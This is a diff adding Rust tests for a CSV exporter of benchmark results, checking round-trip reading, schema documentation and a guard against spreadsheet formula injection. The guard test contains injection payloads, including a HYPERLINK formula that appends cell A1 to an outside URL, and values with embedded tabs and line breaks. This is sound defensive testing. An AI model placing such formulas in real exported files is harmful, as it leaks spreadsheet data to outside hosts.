@@ -1,1 +1,80 @@
-//! Tests.
+//! The CSV reads back as what was written, and runs nothing in a spreadsheet.
+
+use super::*;
+use chipmark_results::fixture;
+use std::collections::HashMap;
+
+fn read_back(text: &str) -> Vec<HashMap<String, String>> {
+    csv::Reader::from_reader(text.as_bytes()).deserialize().map(Result::unwrap).collect()
+}
+
+#[test]
+fn the_first_rows() {
+    let text = csv(&Report::new(&[fixture::file()])).unwrap();
+    let lines: Vec<&str> = text.lines().take(5).collect();
+    insta::assert_snapshot!(lines.join("\n"), @"
+    run_id,date,chip,gpu,gpu_cores,memory_bytes,os,framework,version,device,execution,mode,workload,case,dtype,outcome,reason,path,launches,samples,median_ns,low_ns,high_ns,p05_ns,p95_ns,gflops,gbps,check_error,check_bound,flags,upload_ns,step_ns,download_ns,bare_finish_ns,flop,bytes,suite,harness_version
+    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,candle,0.11.0,cpu,eager,latency,matmul,matmul/100x100@100x100/f32,f32,ok,,native,3,9,1010,1000,1020,997,1023,1980.1980198019803,59.40594059405941,0.0000001,0.000002,,,,,100,2000000,60000,quick,0.1.0
+    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,tch,2.9.0,cpu,eager,latency,matmul,matmul/100x100@100x100/f32,f32,ok,,native,3,9,2020,2000,2040,1997,2043,990.0990099009902,29.702970297029704,0.0000001,0.000002,,,,,100,2000000,60000,quick,0.1.0
+    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,candle,0.11.0,cpu,eager,latency,softmax,softmax/100x50/f32,f32,ok,,native,3,3,2020,2000,2040,2002,2038,,19.801980198019802,0.0000001,0.000002,few-samples,,,,100,0,40000,quick,0.1.0
+    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,tch,2.9.0,cpu,eager,latency,softmax,softmax/100x50/f32,f32,ok,1 of 3 launches: crashed (the worker was killed by signal 11 (SIGSEGV)),composed,2,2,4040,4000,4080,4004,4076,,9.900990099009901,0.0000001,0.000002,few-samples,,,,100,0,40000,quick,0.1.0
+    ");
+}
+
+#[test]
+fn every_cell_has_a_row_that_reads_back() {
+    let report = Report::new(&[fixture::file(), fixture::file()]);
+    let rows = read_back(&csv(&report).unwrap());
+    assert_eq!(rows.len(), 28);
+    let matmul = &rows[0];
+    assert_eq!((matmul["case"].as_str(), matmul["framework"].as_str()), (fixture::MATMUL, "candle"));
+    assert_eq!((matmul["device"].as_str(), matmul["gpu_cores"].as_str()), ("cpu", "40"));
+    let median: f64 = matmul["median_ns"].parse().unwrap();
+    let gflops: f64 = matmul["gflops"].parse().unwrap();
+    assert_eq!((median, gflops), (1010.0, 2_000_000.0 / 1010.0));
+    let composed = rows.iter().find(|row| row["path"] == "composed").unwrap();
+    assert_eq!((composed["workload"].as_str(), composed["flags"].as_str()), ("softmax", "few-samples"));
+    assert!(composed["reason"].starts_with("1 of 3 launches: crashed"));
+    let transfer = rows.iter().find(|row| row["mode"] == "transfer").unwrap();
+    assert_eq!((transfer["upload_ns"].as_str(), transfer["gflops"].as_str()), ("202", ""));
+    for row in rows.iter().filter(|row| row["outcome"] != "ok") {
+        assert_eq!(row["median_ns"], "", "{row:?}");
+        assert_ne!(row["reason"], "", "{row:?}");
+    }
+}
+
+#[test]
+fn a_spreadsheet_runs_nothing() {
+    for text in ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\u{ff1d}1", "  \u{ff0b}1"] {
+        assert_eq!(guarded(text), format!("'{text}"));
+    }
+    for text in ["Apple M3", "1-2", ""] {
+        assert_eq!(guarded(text), text);
+    }
+    let mut file = fixture::file();
+    let nasty = "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
+    let tabbed = "\t=1\r\n=2\",\"=3";
+    file.run.machine.chip = nasty.to_owned();
+    file.run.machine.gpus[0].name = tabbed.to_owned();
+    file.run.suite = tabbed.to_owned();
+    file.run.targets[0].info.version = nasty.to_owned();
+    for check in &mut file.checks {
+        check.reason = check.reason.as_ref().map(|_| nasty.to_owned());
+    }
+    let rows = read_back(&csv(&Report::new(&[file])).unwrap());
+    assert_eq!(rows.len(), 14);
+    for value in rows.iter().flat_map(HashMap::values) {
+        assert!(!value.trim_start().starts_with(['=', '+', '@']), "{value}");
+        assert!(!value.contains(['\n', '\r', '\t']), "{value}");
+    }
+    assert_eq!(rows[0]["chip"], format!("'{nasty}"));
+}
+
+#[test]
+fn the_schema_page_describes_every_column() {
+    let page = include_str!("../../../suite/docs/SCHEMA.md");
+    let (_, table) = page.split_once("## `report.csv`").unwrap();
+    for column in COLUMNS {
+        assert!(table.contains(&format!("`{column}`")), "{column}");
+    }
+}
